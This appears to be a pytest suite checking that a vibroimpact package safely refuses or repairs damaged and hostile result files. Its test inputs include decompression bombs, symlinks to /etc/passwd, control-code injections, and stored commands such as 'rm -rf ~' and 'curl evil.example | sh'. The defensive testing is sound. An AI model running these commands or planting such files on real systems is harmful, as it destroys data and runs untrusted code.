"""Files from elsewhere and files that came to harm: refused in words, or their tiles computed again; never run."""

from __future__ import annotations

import gc
import json
import os
import random
import shutil
import struct
import sys
import tracemalloc
from collections.abc import Callable
from pathlib import Path

import h5py
import numpy as np
import pytest
import xarray as xr
from numcodecs import Zstd

import vibroimpact as vi
from contents import differing
from processes import python
from vibroimpact import request
from vibroimpact.cli import main
from vibroimpact.cli.endings import Ended
from vibroimpact.cli.files import sentences_of_store
from vibroimpact.execution.store import SweepStore
from vibroimpact.explorer.stored import open_study

OSC = vi.ImpactOscillator()
STUDY = {"omega": np.linspace(0.5, 3.0, 5), "mass": np.linspace(0.5, 2.0, 4), "sample_impacts": 30}
BYTES = [{"name": "bytes", "configuration": {"endian": "little"}}]
TIMES = int(os.environ.get("FUZZ", "1"))  # `make fuzz` asks for more
posix = pytest.mark.skipif(os.name == "nt", reason="links and pipes of POSIX")


def sweep(store: Path | None = None, **options) -> xr.Dataset:
    """Return a small map, in tiles of nine cells where it is stored."""
    place = {} if store is None else {"store": store, "tile": 9}
    return vi.parameter_map(OSC, **{**STUDY, "workers": 1, **place, **options})


def refined(store: Path) -> xr.Dataset:
    return vi.parameter_map(OSC, refine=1, store=store, workers=1, **STUDY)


@pytest.fixture(scope="module")
def finished(tmp_path_factory) -> dict[str, Path]:
    """Return finished stores, and a map saved as a whole, to be copied."""
    folder = tmp_path_factory.mktemp("finished")
    sweep(folder / "map.zarr")
    sweep(folder / "starts.zarr", start=3)
    refined(folder / "refined.zarr")
    vi.save(sweep(), folder / "saved.zarr")
    vi.save(sweep(), folder / "saved.nc")
    return {path.name: path for path in folder.iterdir()}


RUNS = {"map.zarr": sweep, "starts.zarr": lambda store=None: sweep(store, start=3), "refined.zarr": refined}


@pytest.fixture(scope="module")
def whole(finished) -> dict[str, xr.Dataset]:
    """Return what the stores hold that came to no harm."""
    return {name: SweepStore(finished[name]).dataset().load() for name in RUNS}


@pytest.fixture
def copied(finished, tmp_path) -> Callable[[str], Path]:
    """Return a function that makes a copy of one's own."""

    def copy(name: str) -> Path:
        if finished[name].is_file():
            return Path(shutil.copy(finished[name], tmp_path / name))
        return Path(shutil.copytree(finished[name], tmp_path / name))

    return copy


def described(file: Path, **changes) -> None:
    """Change what the description of an array or a group says."""
    file.write_text(json.dumps(json.loads(file.read_text()) | changes))


def assert_repaired(again: xr.Dataset, store: Path, whole: xr.Dataset) -> None:
    """Check that a run has made a store hold the bits of a whole one."""
    assert not differing(whole, again)
    assert SweepStore(store).is_whole()


def openings(path: Path) -> list[Callable[[], object]]:
    """Return all that opens a result."""
    return [
        lambda: vi.load(path),
        lambda: open_study(path),
        lambda: SweepStore(path).dataset(),
    ]


def refusal(opening: Callable[[], object]) -> str:
    """Return why something was refused; empty where it was not."""
    try:
        opening()
    except (OSError, ValueError) as error:
        return str(error)
    return ""


def informed(store: Path) -> str:
    """Return what `info` prints, or its one line of refusal."""
    try:
        return "\n".join(sentences_of_store(store))
    except Ended as error:
        return str(error)


# Sizes


def bomb(size: int) -> bytes:
    """Return a few bytes that decode to many."""
    return bytes(Zstd(level=9).encode(np.zeros(size, np.uint8)))


def hidden(size: int) -> bytes:
    """Return the same behind a first frame that says nothing of it."""
    return bytes(Zstd().encode(np.zeros(9))) + bomb(size)


def silent(size: int) -> bytes:
    """Return a frame without its size: blocks of one repeated byte each."""
    blocks = b"".join(
        (1 << 17 << 3 | 2 | (left == 1)).to_bytes(3, "little") + b"\0" for left in range(size >> 17, 0, -1)
    )
    return b"\x28\xb5\x2f\xfd\x00\x58" + blocks


@pytest.mark.parametrize("make", [bomb, hidden, silent])
@pytest.mark.parametrize("file", ["map.zarr", "saved.zarr"])
def test_a_chunk_that_decodes_to_more_than_it_declares_is_refused_and_takes_no_memory(copied, file, make):
    store = copied(file)
    vi.load(store)
    (store / "std" / "c" / "0" / "0").write_bytes(make(1 << 24))
    tracemalloc.start()
    for opening in (vi.load, open_study):
        with pytest.raises(OSError, match="0/0' (was altered|takes)"):
            opening(store)
    assert tracemalloc.get_traced_memory()[1] < 1 << 22
    tracemalloc.stop()


def test_room_is_made_for_no_more_words_than_are_declared(tmp_path):
    words = xr.Dataset({"word": ("x", np.array(["left", "right"], object))})
    words.to_zarr(tmp_path / "words.zarr", zarr_format=3, consolidated=False)
    xr.testing.assert_equal(vi.load(tmp_path / "words.zarr"), words)
    (tmp_path / "words.zarr/word/c/0").write_bytes(Zstd().encode(struct.pack("<I", 1 << 31)))
    with pytest.raises(OSError, match="word/c/0' was altered"):
        vi.load(tmp_path / "words.zarr")


@pytest.mark.parametrize(("file", "array"), [("saved.zarr", "std"), ("map.zarr", "std"), ("map.zarr", "omega")])
def test_an_array_declared_to_be_beyond_memory_is_refused_before_it_is_read(copied, memory, file, array):
    store = copied(file)
    for name in ("omega",) if array == "omega" else ("std", "status"):
        described(store / name / "zarr.json", shape=[10**12] if name == "omega" else [10**7, 10**7])
    memory(10**10)
    for opening in openings(store):
        assert file in refusal(opening)


def test_records_beyond_memory_are_refused_before_they_are_read(copied, memory):
    store = copied("map.zarr")
    described(store / "progress" / "tiles" / "zarr.json", shape=[10**12, 9])
    memory(10**10)
    with pytest.raises(OSError, match="map.zarr' is not a stored sweep, or is damaged .*/progress/tiles/"):
        SweepStore(store)


def test_a_netcdf_file_beyond_memory_is_refused_before_it_is_read(tmp_path, memory):
    with h5py.File(tmp_path / "vast.nc", "w") as file:
        file.create_dataset("std", shape=(10**6, 10**6), dtype="f8", chunks=(1000, 1000))
    memory(10**10)
    for opening in (vi.load, open_study):
        with pytest.raises(ValueError, match=r"vast.nc' has values that take 8 TB of memory, .* has 10 GB"):
            opening(tmp_path / "vast.nc")


@pytest.mark.long(but=4)
@pytest.mark.parametrize(
    "changes",
    [
        {"codecs": [*BYTES, {"name": "gzip", "configuration": {"level": 5}}]},
        {"codecs": [*BYTES, {"name": "blosc"}]},
        {"codecs": []},
        {"chunk_grid": {"name": "regular", "configuration": {"chunk_shape": [-3, 3]}}},
        {"chunk_grid": {"name": "regular", "configuration": {"chunk_shape": [3]}}},
        {"chunk_grid": 5},
        {"chunk_key_encoding": {"name": "v2"}},
        {"shape": ["5", 4]},
        {"shape": None},
        {"data_type": "object"},
        {"data_type": {"name": "fixed_length_utf32", "configuration": {"length_bytes": 10**15}}},
        {"data_type": "string"},
        {"dimension_names": ["omega"]},
        {"zarr_format": 2},
        {"node_type": "group"},
        {"node_type": []},
        {"attributes": []},
        {"attributes": {"units": 5}},
        {"attributes": {"flag_meanings": 5}},
    ],
    ids=str,
)  # fmt: skip
def test_a_description_that_this_package_does_not_write_is_refused(copied, changes):
    for path in (copied("saved.zarr"), copied("map.zarr")):
        described(path / "std" / "zarr.json", **changes)
        with pytest.raises((OSError, ValueError), match=path.name):
            vi.load(path)
    with pytest.raises(OSError, match="map.zarr"):
        sweep(path)


# NetCDF files, which HDF5 reads


def test_a_netcdf_file_that_was_packed_afterwards_is_read(tmp_path, copied):
    plain = vi.load(copied("saved.nc"))
    encoding = {name: {"zlib": True, "chunksizes": (2, 3)} for name in ("std", "status")}
    plain.to_netcdf(tmp_path / "packed.nc", engine="h5netcdf", encoding=encoding)
    assert not differing(plain, vi.load(tmp_path / "packed.nc"))


@pytest.mark.long
def test_netcdf_files_that_were_cut_are_refused_in_one_line(finished, tmp_path, capfd):
    content, path = finished["saved.nc"].read_bytes(), tmp_path / "cut.nc"
    for at in random.Random(1).sample(range(len(content)), 16):
        path.write_bytes(content[:at])
        assert "cut.nc' cannot be read" in refusal(lambda: vi.load(path))
        assert main(["plot", str(path), "--out", str(tmp_path / "cut.png")]) == 2
        assert len(capfd.readouterr().err.splitlines()) == 1
    gc.collect()  # what is left of a file makes no noise either


@pytest.mark.long
@pytest.mark.skipif(sys.platform != "linux", reason="limits of memory as on Linux")
def test_where_memory_does_not_suffice_to_save_a_netcdf_file_nothing_is_left_and_the_process_goes_on(tmp_path):
    script = f"""
import gc, resource
import numpy as np, xarray as xr
import vibroimpact as vi
vast = xr.Dataset({{f"s{{k}}": ("omega", np.zeros(10**7)) for k in range(3)}})
vi.save(vast.isel(omega=slice(9)), {str(tmp_path / "small.nc")!r})
with open("/proc/self/statm") as file:
    now = int(file.read().split()[0]) * resource.getpagesize()
resource.setrlimit(resource.RLIMIT_AS, (now + 130 * 10**6,) * 2)
try:
    vi.save(vast, {str(tmp_path / "vast.nc")!r})
except (OSError, MemoryError) as error:
    print("refused")
gc.collect()
"""
    done = python(script)
    assert (done.returncode, done.stdout, done.stderr) == (0, "refused\n", "")
    assert [path.name for path in tmp_path.iterdir()] == ["small.nc"]


# No regular files


def pipe(place: Path) -> None:
    os.mkfifo(place)


def device(place: Path) -> None:
    place.symlink_to("/dev/zero")


def link_out(place: Path) -> None:
    other = place.parents[len(place.parts) - 3] / "etc" / "passwd"
    place.symlink_to(other)


def folder(place: Path) -> None:
    place.mkdir()
    (place / "precious").write_text("?")


def loop(place: Path) -> None:
    place.symlink_to(place.name)


TILES = ["std/c/0/0", "status/c/1/1", "progress/tiles/c/0/0"]


@pytest.mark.long(but=5)
@posix
@pytest.mark.parametrize("file", [*TILES, "zarr.json", "omega/c/0", "std/zarr.json", "progress/tiles/zarr.json"])
@pytest.mark.parametrize("make", [pipe, device, link_out, folder, loop])
def test_what_is_no_regular_file_of_the_store_is_never_read_and_is_replaced_in_a_tile(copied, whole, make, file):
    store = copied("map.zarr")
    (store / file).unlink(missing_ok=True)
    make(store / file)
    for opening in openings(store):
        why = refusal(opening)
        assert not why or "map.zarr" in why
    again, replaced = [], file in TILES and (make is not folder or file.startswith("st"))
    why = refusal(lambda: again.append(sweep(store).load()))
    assert bool(why) != replaced
    assert bool(why) == (not again)
    if replaced:
        assert_repaired(again[0], store, whole["map.zarr"])
        assert (store / file).is_file()
        assert not (store / file).is_symlink()


@posix
def test_a_lock_that_is_a_link_is_replaced_and_what_it_means_left_alone(copied, tmp_path):
    store, precious = copied("map.zarr"), tmp_path / "precious"
    precious.write_text("?")
    (store / "progress/tiles/lock").unlink(missing_ok=True)
    (store / "progress/tiles/lock").symlink_to(precious)
    sweep(store)
    assert precious.read_text() == "?"


@posix
def test_a_folder_of_a_store_that_is_a_link_out_of_it_is_refused_and_what_it_means_left_alone(copied, tmp_path):
    store = copied("map.zarr")
    shutil.move(store / "std", tmp_path / "elsewhere")
    (store / "std").symlink_to(tmp_path / "elsewhere")
    before = {file: file.read_bytes() for file in (tmp_path / "elsewhere").rglob("*") if file.is_file()}
    for opening in (*openings(store), lambda: sweep(store)):
        with pytest.raises(OSError, match=r"std/zarr.json' is a link out of the store"):
            opening()
    assert {file: file.read_bytes() for file in before} == before


@posix
def test_a_pipe_or_a_link_in_place_of_a_file_or_of_its_variables_is_refused(tmp_path, copied):
    os.mkfifo(tmp_path / "pipe.nc")
    os.mkfifo(tmp_path / "pipe.zarr")
    with h5py.File(tmp_path / "link.nc", "w") as file:
        file["std"] = h5py.ExternalLink("saved.nc", "std")
    with h5py.File(tmp_path / "raw.nc", "w") as file:
        file.create_dataset("std", (10,), "f8", external=[("/dev/zero", 0, 80)])
    for name in ("pipe.nc", "pipe.zarr", "link.nc", "raw.nc"):
        for opening in (vi.load, open_study):
            with pytest.raises(OSError, match=rf"{name}.* cannot be read"):
                opening(tmp_path / name)


# Attributes, and what is printed


@pytest.mark.parametrize("ending", ["zarr", "nc"])
@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("oscillator", "{"), ("oscillator", "[1]"), ("oscillator", '{"mass": -1}'), ("oscillator", '{"x": 1}'),
        ("arguments", "nonsense"), ("arguments", 5), ("arguments", "[" * 100_000), ("function", 5),
        ("variable_order", "5"), ("model", "[]"), ("curve_message", "{}"), ("initial_condition", 3),
    ],
    ids=lambda value: str(value)[:20],
)  # fmt: skip
def test_malformed_attributes_are_refused_in_words(copied, capsys, ending, name, value):
    if ending == "nc" and len(str(value)) > 60_000:
        pytest.skip("HDF5 has no such attribute")
    path = copied(f"saved.{ending}")
    if ending == "zarr":
        attrs = json.loads((path / "zarr.json").read_text())["attributes"]
        described(path / "zarr.json", attributes=attrs | {name: value})
    else:
        with h5py.File(path, "r+") as file:
            file.attrs[name] = value
    with pytest.raises(OSError, match=rf"`path` '.*saved.{ending}' cannot be read .*{name}.*; give a result that"):
        vi.load(path)
    if name == "oscillator":
        assert main(["plot", str(path)]) == 2
        assert f"saved.{ending}" in capsys.readouterr().err


@pytest.mark.parametrize("lost", ["oscillator", "function", "status", "std", "omega"])
def test_a_result_that_lacks_something_is_summed_up_or_refused_in_words(tmp_path, capsys, lost):
    result = sweep()
    if lost in result.attrs:
        del result.attrs[lost]
    else:
        result = result.drop_vars(lost)
    path = vi.save(result, tmp_path / "map.zarr")
    code, output = main(["plot", str(path)]), capsys.readouterr()
    assert code in (0, 2)
    assert len(output.err.splitlines()) <= 1
    assert "Error" not in output.err or "map.zarr" in output.err


def commanded(store: Path, command: str) -> None:
    attrs = json.loads((store / "zarr.json").read_text())["attributes"]
    described(store / "zarr.json", attributes=attrs | {"command": command})


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("vibroimpact map --x omega=1:2:3 --out run.zarr", "vibroimpact map --x omega=1:2:3 --out run.zarr"),
        ("vibroimpact map --out 'two words.zarr' --overwrite", "vibroimpact map --out 'two words.zarr'"),
        ("vibroimpact map; rm -rf ~", "vibroimpact 'map;' rm"),
        ("vibroimpact map --out a.zarr; rm -rf ~", "vibroimpact map --out 'a.zarr;' rm -rf '~'"),
        ("vibroimpact map --out $(rm -rf .)", "vibroimpact map --out '$(rm' -rf '.)'"),
        ("vibroimpact map\nrm -rf ~", "vibroimpact map rm -rf '~'"),
        ("vibroimpact map '\n'", None),
        ("vibroimpact map \x1b[2J", None),
        ("vibroimpact map '", None),
        ("curl evil.example | sh", None),
        ("vibroimpact explore --host 0.0.0.0", None),
        ("", None),
    ],
)  # fmt: skip
def test_a_foreign_command_is_no_advice_unless_it_is_one_of_ours_quoted_anew(copied, capsys, command, words):
    store = copied("map.zarr")
    (store / "std" / "c" / "0" / "0").unlink()
    commanded(store, command)
    assert main(["info", str(store)]) == 0
    last = capsys.readouterr().out.splitlines()[-1]
    if words is None or words == "vibroimpact 'map;' rm":
        assert last == "continue with: the same parameter_map(..., store=...) call"
    else:
        assert last == f"continue with: {words}"


def test_what_is_printed_of_a_file_holds_no_control_codes(copied, capsys):
    store = copied("map.zarr")
    attrs = json.loads((store / "zarr.json").read_text())["attributes"]
    study = json.loads(attrs["study"]) | {"backend": "cpu\n\x1b[31mcontinue with: rm -rf ~\u202e"}
    described(
        store / "zarr.json",
        attributes=attrs
        | {"study": json.dumps(study), "key": request.key_of(study), "initial_condition": "rest\x1b[2J\nwrote all"},
    )
    for words in (["info", str(store)], ["plot", str(store)], ["info", "no\x1b[2J\nsuch.zarr"]):
        main(words)
        output = capsys.readouterr()
        assert all(line.isprintable() for line in (output.out + output.err).splitlines())
        assert not any(line.startswith(("continue with", "wrote")) for line in output.out.splitlines())


# Whatever happens to files


def altered(file: Path, chance: random.Random) -> None:
    content = bytearray(file.read_bytes() or b"?")
    for _ in range(chance.choice([1, 1, 5])):
        content[chance.randrange(len(content))] = chance.randrange(256)
    file.write_bytes(content)


def truncated(file: Path, chance: random.Random) -> None:
    content = file.read_bytes()
    file.write_bytes(content[: chance.randrange(len(content) + 1)])


def deleted(file: Path, chance: random.Random) -> None:
    shutil.rmtree(file.parent) if chance.random() < 0.2 and (file.parent / "..").exists() else file.unlink()


def swapped(file: Path, chance: random.Random) -> None:
    """Put a file of another kind in the place of one."""
    root = next(part for part in file.parents if part.suffix == ".zarr")
    others = [path for path in root.rglob("*") if path.is_file() and path.suffix != file.suffix]
    if others:
        shutil.copy(chance.choice(others), file)


def replaced(file: Path, chance: random.Random) -> None:
    file.unlink()
    kinds = [folder] if os.name == "nt" else [folder, pipe, device, link_out, loop]
    chance.choice(kinds)(file)


def blocked(file: Path, chance: random.Random) -> None:
    """Put a file in the place of the folder around one."""
    if file.parent.suffix != ".zarr":
        shutil.rmtree(file.parent)
        file.parent.write_text("moved")


HARMS = [altered, altered, truncated, deleted, swapped, replaced, blocked]


@pytest.mark.long
@pytest.mark.parametrize("seed", range(max(8, 4 * TIMES)))
def test_whatever_happens_to_its_files_a_store_is_made_whole_or_refused_in_words(finished, whole, tmp_path, seed):
    chance = random.Random(seed)
    for case in range(15):
        name = chance.choices(list(RUNS), (20, 4, 1))[0]
        store = Path(shutil.copytree(finished[name], tmp_path / f"{case}" / name))
        for _ in range(chance.choice([1, 1, 2, 4])):
            files = sorted(file for file in store.rglob("*") if file.is_file() and not file.is_symlink())
            if files:
                chance.choice(HARMS)(chance.choice(files), chance)
        why = refusal(chance.choice(openings(store)))
        assert not why or name in why
        assert case % 3 or informed(store)
        done = []
        if why := refusal(lambda store=store, name=name, done=done: done.append(RUNS[name](store).load())):
            assert name in why
            continue
        assert_repaired(done[0], store, whole[name])
